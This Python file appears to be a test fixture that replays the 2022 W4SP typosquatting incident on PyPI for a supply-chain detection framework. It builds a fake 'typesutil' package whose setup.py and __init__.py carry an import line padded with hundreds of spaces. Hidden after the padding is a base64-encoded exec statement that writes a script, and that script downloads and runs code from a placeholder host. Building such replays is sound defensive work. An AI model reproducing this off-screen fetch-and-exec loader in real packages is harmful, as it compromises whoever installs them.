"""W4SP: typesutil and some thirty more (PyPI, from 2022-10-12): look-alikes of real packages; one line beyond the edge of the screen.

By the record: new names with the code and the page of real ones, and in `setup.py` or `__init__.py` one more statement behind an import
and many blanks. It evaluates what is packed in base64; that writes a file and starts it, which fetches a thief and runs it. All down
by 2022-11-03.
"""

import base64

from gauntlet.incident import Advisory, Files, Incident, Package, Release, utc
from pratique.core.names import Ecosystem

_TYPES = '''"""Helpers for what is written about types."""

import typing
from collections.abc import Mapping, Sequence


def is_optional(hint):
    """Whether None is among what a hint allows."""
    return type(None) in typing.get_args(hint)


def unwrapped(hint):
    """A hint without None."""
    left = [one for one in typing.get_args(hint) if one is not type(None)]
    return left[0] if len(left) == 1 else hint


def matches(value, hint):
    """Whether a value is what a hint says."""
    origin = typing.get_origin(hint)
    if hint is typing.Any:
        return True
    if origin is typing.Union:
        return any(matches(value, one) for one in typing.get_args(hint))
    if origin is not None and issubclass(origin, Mapping):
        key, item = typing.get_args(hint)
        return isinstance(value, Mapping) and all(matches(k, key) and matches(v, item) for k, v in value.items())
    if origin is not None and issubclass(origin, Sequence):
        return isinstance(value, Sequence) and all(matches(one, typing.get_args(hint)[0]) for one in value)
    return isinstance(value, origin or hint)
'''
_SETUP = """import os
from setuptools import find_packages, setup

here = os.path.abspath(os.path.dirname(__file__))
with open(os.path.join(here, "README.md"), encoding="utf-8") as page:
    text = page.read()

setup(
    name="typesutil",
    version="@VERSION@",
    description="Helpers for type hints",
    long_description=text,
    long_description_content_type="text/markdown",
    packages=find_packages(),
)
"""
_STARTS = """from tempfile import NamedTemporaryFile as _file
from sys import executable as _python
from os import system as _run
_it = _file(delete=False)
_it.write(b'''from urllib.request import urlopen as _open;exec(_open('http://sink.invalid/inject/marker').read())''')
_it.close()
try:
    _run(f"start {_python.replace('.exe', 'w.exe')} {_it.name}")
except Exception:
    pass
"""


def _line(word: str) -> str:
    """An import, and beyond the edge of the screen what starts it all."""
    packed = base64.b64encode(_STARTS.encode()).decode()
    run = f"__import__('builtins').exec(__import__('builtins').compile(__import__('base64').b64decode('{packed}'),'<string>','exec'))"
    return f"import {word}{' ' * 260};{run}\n"


def _release(version: str, at: str) -> Release:
    files: Files = {
        "typesutil/__init__.py": _TYPES.replace("import typing\n", _line("typing")),
        "README.md": "# Helpers for type hints\n\n[![build](https://ci.invalid/badge)](https://ci.invalid)\n\n    matches([1, 2], list[int])\n",
    }
    setup = _SETUP.replace("@VERSION@", version).replace("import os\n", _line("os"))
    return Release(version=version, at=utc(at), files=files, sdist_files={"setup.py": setup})


_BAD = (_release("0.1.1", "2022-10-12T12:00:00Z"), _release("0.1.3", "2022-10-14T12:00:00Z"))
_GUILTY = {"typesutil": ("0.1.1", "0.1.3")}

INCIDENT = Incident(
    id="w4sp-2022",
    title=(
        "typosquats of real packages hid a statement behind hundreds of spaces that downloads and runs the W4SP "
        "stealer"
    ),
    copy=(
        "our copy of W4SP is the copied package with one such statement: base64 that writes and starts a script"
    ),
    ecosystem=Ecosystem.PYPI,
    at=_BAD[0].at,
    packages=(Package(name="typesutil", releases=_BAD),),
    asks={"typesutil": ">=0.1"},
    good={},
    bad=_GUILTY,
    guilty=_GUILTY,
    gone_at=utc("2022-11-03T00:00:00Z"),
    advisory=Advisory(id="PYSEC", at=utc("2022-11-03T00:00:00Z"), about=_GUILTY),
    invented="versions, publish hours, the packed statement; only one of thirty names is replayed",
)
